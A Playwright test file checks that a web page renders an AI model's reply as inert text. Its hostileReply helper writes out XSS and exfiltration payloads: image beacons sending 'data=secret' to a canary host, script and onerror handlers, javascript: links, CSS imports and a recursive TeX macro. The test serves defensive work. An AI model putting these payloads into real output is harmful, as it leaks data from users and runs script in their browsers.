import { expect, test } from '@playwright/test'
import { startModelServer } from './server/startModelServer.ts'
import { attempt, fillProblem, runToEnd, transcript } from './support/solvePage.ts'
import { openWithServer } from './support/openWithServer.ts'

/** What a hostile model writes to make the page speak to somebody, or to run something in it. */
function hostileReply(canary: string): string {
  return [
    `![beacon](${canary}/beacon.png?data=secret) <img src="${canary}/tag.png" onerror="window.hacked = 1">`,
    `<script>window.hacked = 2; fetch('${canary}/script')</script>`,
    `<iframe src="${canary}/frame"></iframe><style>@import url(${canary}/style.css);</style>`,
    `[press me](javascript:window.hacked=3) [or me](data:text/html,<script>1</script>) <javascript:window.hacked=4>`,
    `[ref]: javascript:window.hacked=5`,
    `A link: [ref] and [a place](${canary}/page)`,
    `$\\href{javascript:window.hacked=6}{x} + \\url{${canary}/tex} + \\includegraphics{${canary}/tex.png}$`,
    `$$\\htmlStyle{background:url(${canary}/css)}{y} \\def\\a{\\a\\a}\\a$$`,
    '```python',
    `def solution():`,
    `    print('<img src=${canary}/stdout onerror="window.hacked=7">')`,
    `    return {'<img src=${canary}/key>': '<script>window.hacked=8</script> ![b](${canary}/value)'}`,
    '```',
    `After it ![beacon](${canary}/late.png)`,
  ].join('\n\n')
}

test('hostile text of a model is text: nothing is loaded, nothing runs, no link is disguised', async ({
  page,
}) => {
  const canary = await startModelServer()
  const server = await openWithServer(page, [{ type: 'text', text: hostileReply(canary.origin) }])
  await fillProblem(page, `![own](${canary.origin}/question.png) <img src="${canary.origin}/q">`)
  await page.getByRole('button', { name: 'Preview text and maths' }).click()
  await runToEnd(page)
  await expect(attempt(page, 1)).toContainText('returned after')
  await attempt(page, 1).getByRole('tab', { name: 'Value' }).click()
  await expect(attempt(page, 1)).toContainText('image not loaded')
  await page.getByText(/^Raw reply: /).click()
  await page.waitForTimeout(500)

  expect(canary.requests.map(({ path }) => path)).toEqual([])
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  expect(await page.locator('main').locator('img, iframe, script, style, object, embed').count()).toBe(0)
  const links = await transcript(page)
    .locator('a')
    .evaluateAll((anchors) =>
      anchors.map((anchor) => ({ href: anchor.getAttribute('href'), text: anchor.textContent })),
    )
  expect(links).toEqual([{ href: `${canary.origin}/page`, text: `a place (${new URL(canary.origin).host})` }])
  await server.close()
  await canary.close()
})
